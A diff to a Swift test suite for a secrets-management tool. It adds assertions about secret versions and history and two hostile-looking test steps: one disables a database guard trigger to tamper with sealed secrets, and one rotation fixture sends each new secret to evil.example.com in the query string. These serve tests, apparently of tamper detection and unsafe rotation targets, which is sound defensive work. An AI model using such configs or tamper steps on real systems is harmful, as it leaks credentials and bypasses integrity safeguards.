@@ -28,6 +28,10 @@ import WeirTesting
             #expect(try await fleet.weir("apply", "--yes", environment: ["ERP": "two"]).status == 0)
             #expect(try await fleet.weir("secrets", "reveal", "globex/KEY").output == "two")
             #expect(try await fleet.weir("secrets", "reveal", "globex/KEY", "--number", "1").output == "erp value")
+            let shown = try await fleet.weir("secrets", "show", "globex/KEY")
+            #expect(shown.output.contains("v2 is current; v1 is accepted until "), "\(shown)")
+            let steps = try await fleet.weir("secrets", "history", "globex/KEY")
+            #expect(steps.output.contains("started: source changed") && steps.output.contains("v2 is current"))
             let history = try await fleet.weir("history", "secret:globex/KEY")
             #expect(history.output.contains("rotate") && history.output.contains("create"), "\(history)")
         }
@@ -125,6 +129,8 @@ import WeirTesting
                 "customers/hooli/secrets.yaml": "secrets: {KEY: {from: {env: N}}}\n",
             ])
             try await fleet.apply()
+            // Whoever can do this can do away with what stands against it.
+            try await fleet.execute("ALTER TABLE weir.secret_version DISABLE TRIGGER guard_versions")
             try await fleet.execute(
                 """
                 UPDATE weir.secret_version v SET sealed = o.sealed, data_key_id = o.data_key_id
@@ -185,7 +191,7 @@ import WeirTesting
                 secrets:
                   A: {from: {env: GLOBEX_KEY}}
                   B: {from: {vault: secret/data/globex/erp, key: password}}
-                  C: {generate: {kind: token}, rotate: {by: {http: {create: {url: "https://evil.example.com/"}, verify: {url: "https://evil.example.com/"}}}}}
+                  C: {generate: {kind: token}, rotate: {by: {http: {create: {url: "https://evil.example.com/?k={{new}}"}, verify: {url: "https://evil.example.com/?k={{new}}"}}}}}
 
                 """
             ])
